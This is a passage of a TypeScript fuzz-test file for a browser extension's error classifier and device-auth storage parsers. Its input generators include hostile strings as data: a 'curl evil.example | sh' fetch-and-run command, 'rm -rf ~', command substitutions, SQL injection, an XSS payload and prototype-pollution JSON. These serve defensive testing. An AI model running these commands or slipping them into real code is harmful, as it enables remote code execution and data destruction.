// @vitest-environment node
/**
 * Fuzz test of everything that reads page-controlled input: the error classifier, the storage
 * parsers, the clear and restore planners, the background's message check, and the banner and
 * fix-guide text built from them. A page on a matched origin chooses its DOM text, its storage
 * keys and values, and (through the content script) what reaches the background, so each of
 * these must hold for any input:
 *
 * - it never throws;
 * - it takes time linear in the input: at most `5 ms + size / 5,000 ms` per call (about 210 ms
 *   per MB, `timeBound`; a call over the bound is run twice more and the fastest run counts, so
 *   a GC pause or a busy machine does not fail it, while a quadratic regex does: seconds on the
 *   64 Ki inputs, which run before the 1 MB ones, minutes on 1 MB);
 * - a clear followed by Undo restores the storage byte for byte, the clear changes no key but
 *   the planned ones and only removes `tokens.operator`, and no value over 8 KB is ever planned.
 *
 * Inputs come from a seeded PRNG (mulberry32): random Unicode (lone surrogates, NUL, U+00A0,
 * bidi marks), the gateway's real error phrases spliced with noise and white space, 1 MB
 * strings, 20,000-deep JSON, prototype names as keys and values, wrong types, and device-auth
 * values in the exact form the Control UI writes, with mutations. A failure names the seed, the
 * case and the input: rerun it with `FUZZ_SEED=<seed> npx vitest run core/fuzz.test.ts`
 * (`FUZZ_SCALE=10` runs ten times as many inputs). About 155,000 inputs, 6–10 s on 2 cores.
 */
import { describe, expect, it } from 'vitest';
import { checkRequest, REQUEST_SCHEMAS } from '@/lib/message-schemas';
import { classifyDashboardWords, classifyError, classifyFailureKind, combineFailureKind, DASHBOARD_WORDS, FAILURE_KIND_NAMES } from './classify-error';
import { diagnoseText, type TextDiagnosis } from './diagnose-text';
import {
  applyWrites,
  clearWrites,
  deviceAuthEntries,
  deviceIdentity,
  MAX_BACKUP_CHANGES,
  MAX_BACKUP_VALUE_CHARS,
  planDeviceTokenClear,
  planRestore,
  type Brand,
  type StorageChange,
  type StorageWrite,
} from './device-auth';
import { currentGatewayUrl, defaultGatewayUrl, gatewayScope, normaliseBasePath } from './gateway-scope';
import { byFixOrder, isLockoutKind, type Lockout } from './lockout';
import { parseRelease } from './release';
import { parseRunMode, runModeFromText } from './run-mode';
import { summarizeStoredAuth } from './stored-auth';
import { MemoryStorage } from './test-storage';
import { parseObject, type WebStorage } from './web-storage';
import { translatorFor } from './test-i18n';

const t = await translatorFor('en');

// -------------------------------------------------------------------------------------------
// Seed, PRNG and bookkeeping
// -------------------------------------------------------------------------------------------

const SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) >>> 0 : (Math.random() * 2 ** 32) >>> 0;
const SCALE = Math.max(0.01, Number(process.env.FUZZ_SCALE ?? 1) || 1);
const n = (count: number) => Math.max(1, Math.round(count * SCALE));
/** The whole file takes 6–10 s on 2 cores; a test's timeout leaves room for a loaded CI machine. */
const TEST_TIMEOUT_MS = 60_000 * Math.max(1, SCALE);
const MIN_INPUTS = 100_000;

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** FNV-1a, so each test has its own stream and can be rerun alone with the same seed. */
function hash(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193);
  return h >>> 0;
}

class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  int(below: number): number {
    return Math.floor(this.next() * below);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  hex(length: number): string {
    let out = '';
    for (let i = 0; i < length; i++) out += '0123456789abcdef'[this.int(16)];
    return out;
  }
}

const rngFor = (test: string) => new Rng(SEED ^ hash(test));

let totalInputs = 0;
/** Clears that changed something and were undone: the byte-for-byte property ran on each. */
let roundTrips = 0;
const inputsPerTarget = new Map<string, number>();
const where = { test: '', index: 0 };

class FuzzFailure extends Error {
  override name = 'FuzzFailure';
}

function fail(target: string, input: unknown, problem: string): never {
  throw new FuzzFailure(
    `${target}: ${problem}\n  input: ${show(input)}\n  inputs "${where.test}", case ${where.index}, seed ${SEED}` +
      ` (rerun: FUZZ_SEED=${SEED} npx vitest run core/fuzz.test.ts)`,
  );
}

function check(ok: boolean, target: string, input: unknown, what: string): void {
  if (!ok) fail(target, input, `property failed: ${what}`);
}

/**
 * The time a call on an input of `size` characters may take: 5 ms plus about 210 ms per MB.
 * A quadratic step on a 1 MB input takes minutes and on a 64 KB one seconds, so the slope can
 * be generous: V8's JSON.parse and Node's URL parser run adversarial megabytes at up to about
 * 150 ms per MB on a 2-core machine, and CI may be twice as slow.
 */
const timeBound = (size: number) => 5 + size / 5_000;

/**
 * The size of a text that is parsed as a URL: what the parser writes, percent-encoded UTF-8, up
 * to 3 characters per ASCII character and 9 per other one (a lone surrogate becomes `%EF%BF%BD`).
 * Node's URL parser spends about 0.45 µs on each lone surrogate; browsers never hand it one.
 */
function urlSize(text: unknown): number {
  if (typeof text !== 'string') return 1;
  const cached = urlSizes.get(text);
  if (cached !== undefined) return cached;
  let size = 0;
  for (let i = 0; i < text.length; i++) size += text.charCodeAt(i) < 0x80 ? 3 : 9;
  if (text.length > 10_000) urlSizes.set(text, size);
  return size;
}
const urlSizes = new Map<string, number>();

/** This process's CPU time in ms: unlike the wall clock, it does not grow when other processes load the machine. */
function cpuMs(): number {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
}

/**
 * Runs one call on one generated input: it must not throw and must stay within the linear time
 * bound. A call over the bound runs twice more and the fastest run counts (GC pauses and JIT
 * warm-up are not the input's fault; a quadratic blow-up is slow every time). Those reruns, and
 * calls with side effects (`retry: false`, timed once against twice the bound), take the lesser
 * of wall-clock and CPU time, so a machine busy with other work does not fail them either.
 */
function call<T>(target: string, input: unknown, size: number, fn: () => T, options: { retry?: boolean; timed?: boolean } = {}): T {
  totalInputs++;
  inputsPerTarget.set(target, (inputsPerTarget.get(target) ?? 0) + 1);
  const retry = options.retry !== false;
  const bound = options.timed === false ? Infinity : retry ? timeBound(size) : 2 * timeBound(size);
  let best = Infinity;
  for (let attempt = 1; ; attempt++) {
    // process.cpuUsage costs about 5 µs, so the first run of most calls only reads the clock.
    const precise = attempt > 1 || !retry;
    let result: T;
    const cpuStart = precise ? cpuMs() : 0;
    const start = performance.now();
    try {
      result = fn();
    } catch (error) {
      fail(target, input, `threw ${describeError(error)}`);
    }
    const wall = performance.now() - start;
    best = Math.min(best, precise ? Math.min(wall, cpuMs() - cpuStart) : wall);
    if (best <= bound) return result;
    // Far over the bound on CPU time too: no pause explains that, so no third run.
    const clear = precise && best > 3 * bound && best > 100;
    if (!retry || attempt >= 3 || clear) fail(target, input, `took ${best.toFixed(1)} ms, over the linear bound of ${bound.toFixed(1)} ms for size ${size}`);
  }
}

function describeError(error: unknown): string {
  try {
    return error instanceof Error ? `${error.name}: ${error.message}`.slice(0, 300) : `a non-Error value (${show(error)})`;
  } catch {
    return 'an unprintable value';
  }
}

function showString(s: string): string {
  if (s.length <= 240) return JSON.stringify(s);
  return `${JSON.stringify(s.slice(0, 120))} + …(${s.length} characters)… + ${JSON.stringify(s.slice(-60))}`;
}

/** A readable, bounded picture of any input, for failure messages. */
function show(value: unknown, depth = 0): string {
  try {
    if (typeof value === 'string') return showString(value);
    if (typeof value === 'symbol' || typeof value === 'bigint') return `${typeof value} ${String(value)}`;
    if (typeof value === 'function') return 'a function';
    if (value === null || typeof value !== 'object') return String(value);
    if (value instanceof MemoryStorage) return `MemoryStorage ${show(value.snapshot(), depth)}`;
    if (value instanceof HostileStorage) return `HostileStorage(faults: ${[...value.faults].join(',')}) over ${show(value.inner, depth)}`;
    if (depth > 4) return '…';
    if (Array.isArray(value)) {
      return `[${value.slice(0, 8).map((item) => show(item, depth + 1)).join(', ')}${value.length > 8 ? `, …${value.length} items` : ''}]`;
    }
    const entries = Object.entries(value);
    return `{${entries
      .slice(0, 24)
      .map(([key, item]) => `${showString(key)}: ${show(item, depth + 1)}`)
      .join(', ')}${entries.length > 24 ? ', …' : ''}}`;
  } catch {
    return '(unshowable)';
  }
}

/** Characters of strings plus one per value, without recursion (inputs nest 20,000 deep). */
function sizeOf(value: unknown): number {
  let size = 0;
  const stack: unknown[] = [value];
  let visited = 0;
  while (stack.length && visited++ < 2_000_000) {
    const item = stack.pop();
    size += 1;
    if (typeof item === 'string') size += item.length;
    else if (item instanceof MemoryStorage) for (const [key, text] of Object.entries(item.snapshot())) size += key.length + text.length;
    else if (item instanceof HostileStorage) stack.push(item.inner);
    else if (item !== null && typeof item === 'object') {
      try {
        for (const [key, child] of Object.entries(item)) {
          size += key.length;
          stack.push(child);
        }
      } catch {
        // A value that cannot be listed counts as one.
      }
    }
  }
  return size;
}

/** One test's loop: numbers the cases so a failure names its case. */
function cases(test: string, count: number, body: (r: Rng, index: number) => void): void {
  const r = rngFor(test);
  where.test = test;
  for (let index = 0; index < count; index++) {
    where.index = index;
    body(r, index);
  }
}

// -------------------------------------------------------------------------------------------
// Generators
// -------------------------------------------------------------------------------------------

const MB = 1 << 20;
/** Every character JavaScript's `\s` matches. */
const WHITESPACE = [' ', '\t', '\n', '\r', '\v', '\f', '\u00a0', '\u1680', '\u2000', '\u2007', '\u200a', '\u2028', '\u2029', '\u202f', '\u205f', '\u3000', '\ufeff'];
const BIDI = ['\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u061c'];
const SHELL = ['`', '$', ';', '|', '&', '"', "'", '\\', '<', '>', '(', ')', '{', '}', '[', ']', ':', '/', '?', '#', '%', '@', '*', '=', ',', '.', '-', '_', '~', '!', '\n'];
const PROTO_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
  '__lookupGetter__',
];
const HOSTILE_DEVICE_ID = 'x; curl evil.example | sh #';
const HOSTILE_STRINGS = [
  HOSTILE_DEVICE_ID,
  '`rm -rf ~`',
  '$(id)',
  "'; DROP TABLE devices; --",
  '--latest',
  '-rf',
  '<img src=x onerror=alert(1)>',
  '\u202eexe.txt',
  '\u0000',
  '',
  ' ',
  '\ud800',
  '\udfff\ud800',
  '😀',
  ...PROTO_NAMES,
];

function char(r: Rng): string {
  switch (r.int(12)) {
    case 0:
      return String.fromCharCode(0xd800 + r.int(0x800)); // a lone surrogate
    case 1:
      return r.chance(0.5) ? '\u0000' : String.fromCharCode(r.chance(0.9) ? r.int(0x20) : 0x7f + r.int(0x21));
    case 2:
      return r.pick(WHITESPACE);
    case 3:
      return r.pick(BIDI);
    case 4:
      return String.fromCodePoint(0x10000 + r.int(0x100000)); // a surrogate pair
    case 5:
      return String.fromCharCode(r.int(0x10000));
    case 6:
    case 7:
      return r.pick(SHELL);
    default:
      return String.fromCharCode(0x20 + r.int(95));
  }
}

function unicode(r: Rng, max = 48): string {
  const length = r.int(max + 1);
  let out = '';
  for (let i = 0; i < length; i++) out += char(r);
  return out;
}

/** A run of 1–3 white space characters of any kind. */
const spaces = (r: Rng) => Array.from({ length: 1 + r.int(3) }, () => r.pick(WHITESPACE)).join('');

/** Values of the wrong type, where a string is expected. */
function wrongType(r: Rng): unknown {
  switch (r.int(16)) {
    case 0:
      return null;
    case 1:
      return undefined;
    case 2:
      return r.pick([0, -0, 1, -1, 1.5, NaN, Infinity, -Infinity, 2 ** 53, 1e308, 12345678901234567890]);
    case 3:
      return r.chance(0.5);
    case 4:
      return [];
    case 5:
      return {};
    case 6:
      return [unicode(r, 8), 'device token mismatch'];
    case 7:
      return { toString: () => 'unauthorized: device token mismatch' };
    case 8:
      return Object.create(null) as object;
    case 9:
      return JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":1}') as object;
    case 10:
      return Symbol('device token mismatch');
    case 11:
      return 10n;
    case 12:
      return () => 'device token mismatch';
    case 13:
      return new String('unauthorized: device token mismatch');
    case 14:
      return {
        toString() {
          throw new Error('toString was called');
        },
      };
    default:
      return new Date(0);
  }
}

/** Values of any JSON type, as a message that crossed `runtime.sendMessage` could hold. */
function jsonWrongType(r: Rng): unknown {
  switch (r.int(11)) {
    case 0:
      return null;
    case 1:
      return r.pick([0, -1, 1.5, 2 ** 53, 1e308, -0, 12345678901234567890]);
    case 2:
      return r.chance(0.5);
    case 3:
      return [];
    case 4:
      return {};
    case 5:
      return [unicode(r, 8)];
    case 6:
      return JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}') as object;
    case 7:
      return Object.fromEntries(PROTO_NAMES.map((name) => [name, unicode(r, 4)]));
    case 8:
      return unicode(r, 24);
    case 9:
      return r.pick(HOSTILE_STRINGS);
    default:
      return r.pick([NaN, Infinity, undefined]); // JSON would drop these; a buggy sender might not
  }
}

/** The gateway's and the UI's messages (reference §3.2, §3.3), verbatim. */
const MESSAGES = [
  'unauthorized: device token mismatch (rotate/reissue device token)',
  'unauthorized: gateway token mismatch (open the dashboard URL and paste the token in Control UI settings)',
  'unauthorized: gateway token mismatch (open a tokenized dashboard URL or paste token in Control UI settings)',
  'unauthorized: gateway token mismatch (provide gateway auth token)',
  'unauthorized: gateway token missing (open the dashboard URL and paste the token in Control UI settings)',
  'unauthorized: gateway token missing (paste in Control UI settings or openclaw doctor --generate-gateway-token; restart)',
  'unauthorized: gateway token not configured on gateway (set gateway.auth.token)',
  'unauthorized: device token rejected (pair/repair this device, or provide gateway token)',
  'unauthorized: device token scope mismatch (re-pair or approve scope upgrade)',
  'unauthorized: too many failed authentication attempts (retry later)',
  'unauthorized: gateway password mismatch (enter the password in Control UI settings)',
  'unauthorized: gateway password missing (enter the password in Control UI settings)',
  'unauthorized: gateway password not configured on gateway (set gateway.auth.password)',
  'unauthorized: bootstrap token invalid or expired (scan a fresh setup code)',
  'unauthorized: setup code invalid, expired, revoked, or already used (create a new code; review `openclaw devices list`)',
  'pairing required',
  'pairing required: device is not approved yet',
  'device pairing required (requestId: 6f1c2d3e-8a4b-4c5d-9e6f-0123456789ab)',
  'control ui requires device identity (use HTTPS or localhost secure context)',
  'control ui requires HTTPS or localhost (secure context)',
  'origin not allowed (open the Control UI from the gateway host or allow it in gateway.controlUi.allowedOrigins)',
  'protocol mismatch',
  'protocol mismatch: Control UI updated; reload this page to continue',
  'disconnected (4008): connect failed',
  'gateway connect failed',
  'gateway auth failed',
  'device identity required (use HTTPS/localhost or allow insecure auth explicitly)',
  'Connection to the Gateway was interrupted. Check your connection and try again. (WebSocket 1006)',
  'Auth failed. Re-copy a tokenized URL with openclaw dashboard --no-open, or update the token, then click Connect.',
  'unauthorized',
];
const PREFIXES = ['', 'disconnected (1008): ', 'gateway closed (1008): ', 'gateway connect failed: ', '[openclaw] Failed to start CLI: Error: ', 'Error: ', '⚠ '];
const CODES = [
  ['AUTH_DEVICE_TOKEN_MISMATCH', 'device_token_mismatch'],
  ['AUTH_TOKEN_MISMATCH', 'token_mismatch'],
  ['AUTH_TOKEN_MISSING', 'token_missing'],
  ['AUTH_RATE_LIMITED', 'rate_limited'],
  ['AUTH_SCOPE_MISMATCH', 'scope_mismatch'],
  ['PAIRING_REQUIRED', 'not-paired'],
  ['CONTROL_UI_ORIGIN_NOT_ALLOWED', 'origin_not_allowed'],
  ['CONTROL_UI_DEVICE_IDENTITY_REQUIRED', 'device_identity_required'],
  ['PROTOCOL_MISMATCH', 'protocol_mismatch'],
  ['CONTROL_UI_BUILD_MISMATCH', 'build_mismatch'],
  ['AUTH_BOOTSTRAP_TOKEN_INVALID', 'bootstrap_token_invalid'],
] as const;
/** Phrases of §3.3 and the lock-out each names: any white space between the words, any case. */
const PHRASE_KINDS = [
  ['device token mismatch', 'device-token-mismatch'],
  ['gateway token mismatch', 'gateway-token-mismatch'],
  ['gateway token missing', 'gateway-token-missing'],
  ['too many failed authentication attempts', 'rate-limited'],
  ['pairing required', 'pairing-required'],
  ['origin not allowed', 'origin-not-allowed'],
  ['protocol mismatch', 'protocol-mismatch'],
] as const;
const REQUEST_IDS = ['6f1c2d3e-8a4b-4c5d-9e6f-0123456789ab', 'abcd', 'a_b-c', '--latest', '-rf', 'x'.repeat(128), 'x'.repeat(129), '$(id)', '`id`', 'ab', ''];

/** Random ASCII case, letter by letter. */
const randomCase = (r: Rng, text: string) => [...text].map((c) => (r.chance(0.3) ? c.toUpperCase() : c)).join('');

/** Inserts `count` random characters at random places. */
function splice(r: Rng, text: string, count: number): string {
  let out = text;
  for (let i = 0; i < count; i++) {
    const at = r.int(out.length + 1);
    out = out.slice(0, at) + (r.chance(0.3) ? unicode(r, 3) : char(r)) + out.slice(at);
  }
  return out;
}

/** Text a page, a log or a user could show: noise, real messages with variations, frames, log lines. */
function errorText(r: Rng): string {
  const message = r.pick(MESSAGES);
  switch (r.int(11)) {
    case 0:
      return unicode(r, 200);
    case 1:
      return unicode(r, 20) + r.pick(PREFIXES) + message.split(' ').join(r.chance(0.5) ? ' ' : spaces(r)) + unicode(r, 20);
    case 2: {
      // The close reason: cut at 120 bytes of UTF-8.
      const full = r.pick(PREFIXES) + message;
      return Buffer.from(full).subarray(0, r.int(Math.min(121, full.length + 1))).toString();
    }
    case 3: {
      const [code, authReason] = r.pick(CODES);
      const frame = { type: 'res', id: r.hex(8), ok: false, error: { code: 'INVALID_REQUEST', message, details: { code, authReason, canRetryWithDeviceToken: false } } };
      return r.chance(0.5) ? JSON.stringify(frame) : JSON.stringify(frame, null, 2);
    }
    case 4: {
      const [, authReason] = r.pick(CODES);
      return `[ws] unauthorized conn=${r.hex(8)} remote=127.0.0.1 client=openclaw-control-ui ${unicode(r, 8)} reason=${r.chance(0.7) ? authReason : unicode(r, 12)}`;
    }
    case 5:
      return Array.from({ length: 1 + r.int(6) }, () => r.pick(MESSAGES)).join(r.pick(['', ' ', '\n', unicode(r, 4)]));
    case 6: {
      const id = r.chance(0.6) ? r.pick(REQUEST_IDS) : unicode(r, 16);
      const form = r.pick([`requestId: ${id}`, `requestId=${id}`, `"requestId":"${id}"`, `requestId${spaces(r)}:${spaces(r)}${id}`, `requestid:'${id}'`]);
      return `${r.pick(['device pairing required', 'pairing required', 'PAIRING_REQUIRED', unicode(r, 10)])} (${form})${unicode(r, 8)}`;
    }
    case 7:
      return splice(r, message, 1 + r.int(6));
    case 8:
      return randomCase(r, message).replace(/ /g, () => (r.chance(0.5) ? ' ' : spaces(r)));
    case 9: {
      // Deletions: a message with random characters gone.
      let out = message;
      for (let i = r.int(4); i >= 0 && out.length; i--) {
        const at = r.int(out.length);
        out = out.slice(0, at) + out.slice(at + 1);
      }
      return out;
    }
    default:
      return r.pick(CODES)[r.int(2)] + r.pick(['', ' ', '_', 'x', unicode(r, 3)]) + r.pick(CODES)[r.int(2)];
  }
}

const SCHEMES = ['ws://', 'wss://', 'http://', 'https://', 'WS://', 'Wss://', '', 'ws:', 'ws:/', 'ws:\\\\', 'file://', 'javascript:', 'blob:', 'data:text/html,', ' ws://', '\tws://'];
const HOSTS = [
  '127.0.0.1',
  'localhost',
  '[::1]',
  'host.tail1234.ts.net',
  'EXAMPLE.com',
  'xn--nxasmq6b',
  'user:secret-pw@127.0.0.1',
  'user@host',
  '127.1',
  '0x7f.1',
  '[::ffff:127.0.0.1]',
  '`whoami`',
  '$(id)',
  'a b',
  '',
  '%00',
  'ex%41mple.com',
  'ünicode.example',
  '127.0.0.1:18789@evil.example',
  '__proto__',
];
const PORTS = ['', '', ':18789', ':1', ':0', ':65535', ':65536', ':-1', ':abc', ':'];

function urlPath(r: Rng): string {
  switch (r.int(9)) {
    case 0:
      return '';
    case 1:
      return '/';
    case 2:
      return '/'.repeat(r.int(40));
    case 3:
      return '/openclaw' + '/'.repeat(r.int(3));
    case 4:
      return '/a/b/../c/./d';
    case 5:
      return '/%2F%2e%2e/' + unicode(r, 6);
    case 6:
      return '/' + unicode(r, 12);
    case 7:
      return '\\\\evil.example/x';
    default:
      return '/' + r.pick(PROTO_NAMES);
  }
}

function urlTail(r: Rng): string {
  switch (r.int(8)) {
    case 0:
    case 1:
      return '';
    case 2:
      return '?';
    case 3:
      return `?token=secret-${r.hex(8)}&x=1`;
    case 4:
      return '?'.repeat(1 + r.int(40)) + r.pick(['\n', '\r\n', '', ' ']);
    case 5:
      return `#token=secret-${r.hex(8)}`;
    case 6:
      return '?' + unicode(r, 10) + '#' + unicode(r, 10);
    default:
      return `?gatewayUrl=ws://127.0.0.1:1&password=secret-${r.hex(4)}`;
  }
}

function anyUrl(r: Rng, schemes: readonly string[] = SCHEMES): string {
  if (r.chance(0.05)) return unicode(r, 40);
  const url = r.pick(schemes) + r.pick(HOSTS) + r.pick(PORTS) + urlPath(r) + urlTail(r);
  return (r.chance(0.1) ? spaces(r) : '') + url + (r.chance(0.1) ? spaces(r) : '');
}

const gatewayUrl = (r: Rng) => anyUrl(r, r.chance(0.7) ? ['ws://', 'wss://'] : SCHEMES);
const pageUrl = (r: Rng) => anyUrl(r, r.chance(0.8) ? ['http://', 'https://'] : SCHEMES);

function basePath(r: Rng): string {
  return r.pick([
    '',
    '/',
    '/openclaw',
    '/openclaw/',
    '/openclaw///',
    '//evil.example',
    '/a?b',
    '/a#b',
    '/a\\b',
    '/a b',
    '/\u0000',
    '/\u202e',
    'relative',
    '/' + 'a'.repeat(300),
    '/'.repeat(1 + r.int(300)),
    '/' + unicode(r, 16),
    unicode(r, 16),
    '/@evil.example',
    '/:1',
  ]);
}

const RELEASES = ['2026.9.6', 'v2026.4.24', '2026.9.6-release-abc123', '2026.13.1', '2026.0.0', '2026.2.30', '9999.99.99', '2026.1.30', '', 'v', '2026..1', '02026.1.1'];
const releaseText = (r: Rng) => (r.chance(0.6) ? r.pick(RELEASES) : r.chance(0.5) ? splice(r, r.pick(RELEASES), 1 + r.int(3)) : unicode(r, 24));

// --- Storage -------------------------------------------------------------------------------

const BRANDS: readonly Brand[] = ['openclaw', 'clawdbot', 'moltbot'];
const deviceAuthBase = (brand: Brand) => `${brand}.device.auth.v1`;
const SCOPES = ['operator.admin', 'operator.approvals', 'operator.pairing', 'operator.read', 'operator.write', 'operator.questions'];

function deviceId(r: Rng): string {
  return r.chance(0.75) ? r.hex(64) : r.pick([HOSTILE_DEVICE_ID, r.hex(63), r.hex(64).toUpperCase(), unicode(r, 20), ...PROTO_NAMES]);
}

/**
 * A stored secret (device token, private key, shared token) the summaries must never show. Keys,
 * device ids and URLs never contain `tokval-` (URLs carry `secret-` parameters, which end up in keys).
 */
const SECRET_MARK = 'tokval-';
const secret = (r: Rng, length: number) => `${SECRET_MARK}${r.hex(Math.max(1, length - SECRET_MARK.length))}`;

/** A device-auth value as the Control UI writes it (`JSON.stringify`, reference §2.1), or a mutation of one. */
function deviceAuthValue(r: Rng): string {
  const scopes = SCOPES.filter(() => r.chance(0.6)).sort();
  const operator = { token: secret(r, 8 + r.int(80)), role: 'operator', scopes, updatedAtMs: 1_764_000_000_000 + r.int(1e9) };
  const tokens: Record<string, unknown> = {};
  if (r.chance(0.9)) tokens.operator = operator;
  if (r.chance(0.15)) tokens.node = { token: secret(r, 20), role: 'node', scopes: [], updatedAtMs: 1 };
  const value: Record<string, unknown> = { version: 1, deviceId: deviceId(r) };
  if (r.chance(0.95)) value.tokens = tokens;
  if (r.chance(0.1)) value[r.pick(['extra', 'constructor', 'toString', unicode(r, 6)])] = r.chance(0.5) ? unicode(r, 12) : { nested: [1, 2, { deep: true }] };
  if (r.chance(0.08)) {
    // Right at the 8 KB limit, on either side.
    const overhead = JSON.stringify(value).length - operator.token.length;
    operator.token = secret(r, MAX_BACKUP_VALUE_CHARS - overhead + r.int(7) - 3);
  }
  let text = JSON.stringify(value);
  if (r.chance(0.55)) return text;
  switch (r.int(16)) {
    case 0:
      return JSON.stringify(value, null, r.pick([1, 2, '\t']));
    case 1:
      return text.replace(/:/g, () => (r.chance(0.3) ? ': ' : ':'));
    case 2:
      return text.replace(/"updatedAtMs":\d+/, '"updatedAtMs":12345678901234567890');
    case 3:
      return text.replace('{', '{"version":1,'); // duplicate key
    case 4:
      return text.slice(0, -1) + ',"tokens":{}}'; // duplicate tokens, the last one wins in JSON.parse
    case 5:
      return text.slice(0, -1) + `,"__proto__":{"operator":{"token":"${secret(r, 12)}"}}}`;
    case 6:
      return text.replace('"version":1', r.pick(['"version":1.0', '"version":1e0', '"version":-0', '"version":"1"']));
    case 7:
      return text.replace('"deviceId"', '"\\u0064eviceId"');
    case 8:
      return text.slice(0, r.int(text.length));
    case 9:
      return splice(r, text, 1 + r.int(3));
    case 10:
      return text.replace(/"tokens":\{/, r.pick(['"tokens":{"operator":null,"x":{', '"tokens":{"operator":"str","x":{', '"tokens":{"operator":[],"x":{']));
    case 11:
      return text.replace(/"tokens":\{.*\}\}$/, r.pick(['"tokens":[]}', '"tokens":"operator"}', '"tokens":1}', '"tokens":null}', '"tokens":true}']));
    case 12:
      return `${text.slice(0, -1)},"extra":${JSON.stringify(unicode(r, 20))}}`;
    case 13:
      return ' '.repeat(1 + r.int(3)) + text;
    case 14:
      return text.replace('"token":"', `"token":"${'\\ud800'}`); // an escaped lone surrogate: still byte-exact
    default:
      return `[${text}]`;
  }
}

function identityValue(r: Rng): string {
  const value = JSON.stringify({ version: 1, deviceId: deviceId(r), publicKey: r.hex(43), privateKey: secret(r, 43), createdAtMs: 1 });
  return r.chance(0.8) ? value : r.pick([splice(r, value, 2), '{"deviceId":null}', '[]', 'null', unicode(r, 20)]);
}

/** A random JSON value, with prototype names as keys now and then. */
function jsonValue(r: Rng, depth = 0): unknown {
  const kind = depth > 3 ? r.int(4) : r.int(7);
  switch (kind) {
    case 0:
      return unicode(r, 12);
    case 1:
      return r.pick([0, -1, 1.5, 1e21, 12345678901234567890, -0]);
    case 2:
      return r.pick([true, false, null]);
    case 3:
      return r.pick(HOSTILE_STRINGS);
    case 4:
      return Array.from({ length: r.int(4) }, () => jsonValue(r, depth + 1));
    default: {
      const out: Record<string, unknown> = {};
      for (let i = r.int(5); i > 0; i--) {
        const key = r.chance(0.3) ? r.pick(PROTO_NAMES) : unicode(r, 8);
        Object.defineProperty(out, key, { value: jsonValue(r, depth + 1), enumerable: true, writable: true, configurable: true });
      }
      return out;
    }
  }
}

function jsonText(r: Rng): string {
  const text = JSON.stringify(jsonValue(r)) ?? 'null';
  switch (r.int(6)) {
    case 0:
      return splice(r, text, 1 + r.int(3));
    case 1:
      return '{"a":'.repeat(r.int(60)) + '1' + '}'.repeat(r.int(60)); // around the depth limit of 32
    case 2:
      return '['.repeat(30 + r.int(6)) + ']'.repeat(30 + r.int(6));
    case 3:
      return `{"__proto__":{"token":"x"},"constructor":{"prototype":{"polluted":true}},"tokens":${text}}`;
    default:
      return text;
  }
}

function settingsValue(r: Rng, gw: string): string {
  const value: Record<string, unknown> = { theme: 'dark' };
  if (r.chance(0.7)) value.gatewayUrl = r.chance(0.7) ? gw : r.chance(0.5) ? gatewayUrl(r) : jsonWrongType(r);
  if (r.chance(0.4)) value.token = r.chance(0.8) ? secret(r, 24) : jsonWrongType(r);
  const text = JSON.stringify(value);
  return r.chance(0.15) ? text.slice(0, -1) + ',"__proto__":{"token":"secret-proto","gatewayUrl":"ws://evil.example"}}' : text;
}

interface StorageCase {
  storage: MemoryStorage;
  session: MemoryStorage;
  /** False: the page's sessionStorage could not be read, and the session passes null. */
  sessionReadable?: boolean;
  brand: Brand;
  pageUrl: string;
  basePath: string;
  /** The gateway the page talks to, as the session works it out (or a random one). */
  gatewayUrl: string | null;
}

/** A page's storage: at most 20 keys (MemoryStorage's `key(i)` is O(n)), most of them about auth. */
function storageCase(r: Rng): StorageCase {
  const brand = r.chance(0.8) ? 'openclaw' : r.pick(BRANDS);
  const base = deviceAuthBase(brand);
  const page = r.chance(0.7) ? `http://127.0.0.1:${1024 + r.int(60000)}/` : pageUrl(r);
  const path = r.chance(0.8) ? '' : basePath(r);
  const gw = r.chance(0.7) ? (defaultGatewayUrl(page, path) ?? gatewayUrl(r)) : gatewayUrl(r);
  const entries: [string, string][] = [];
  const count = r.int(21);
  for (let i = 0; i < count; i++) {
    switch (r.int(14)) {
      case 0:
      case 1:
      case 2:
        entries.push([`${base}:${gatewayScope(gw)}`, deviceAuthValue(r)]);
        break;
      case 3:
      case 4:
        entries.push([base, deviceAuthValue(r)]);
        break;
      case 5:
        entries.push([`${base}:${r.chance(0.5) ? gatewayScope(gatewayUrl(r)) : r.chance(0.5) ? r.pick(PROTO_NAMES) : unicode(r, 16)}`, deviceAuthValue(r)]);
        break;
      case 6:
        entries.push([`${brand}-device-identity-v1`, identityValue(r)]);
        break;
      case 7:
        entries.push([r.pick([`${brand}.control.settings.v1`, 'openclaw.control.settings.v1']), settingsValue(r, gw)]);
        break;
      case 8:
        entries.push([
          `openclaw.control.currentGateway.v1:${r.pick([page, page.replace(/\/$/, ''), unicode(r, 10), '/', r.pick(PROTO_NAMES)])}`,
          r.chance(0.6) ? gw : r.chance(0.5) ? gatewayUrl(r) : unicode(r, 30),
        ]);
        break;
      case 9:
        entries.push([r.pick(PROTO_NAMES), r.chance(0.5) ? deviceAuthValue(r) : jsonText(r)]);
        break;
      case 10:
        entries.push([r.pick(['`rm -rf ~`', `${base}:\`whoami\``, `${base}:`, '', `${base}:${r.pick(PROTO_NAMES)}`]), deviceAuthValue(r)]);
        break;
      case 11:
        entries.push([unicode(r, 24), r.chance(0.5) ? unicode(r, 64) : jsonText(r)]);
        break;
      case 12:
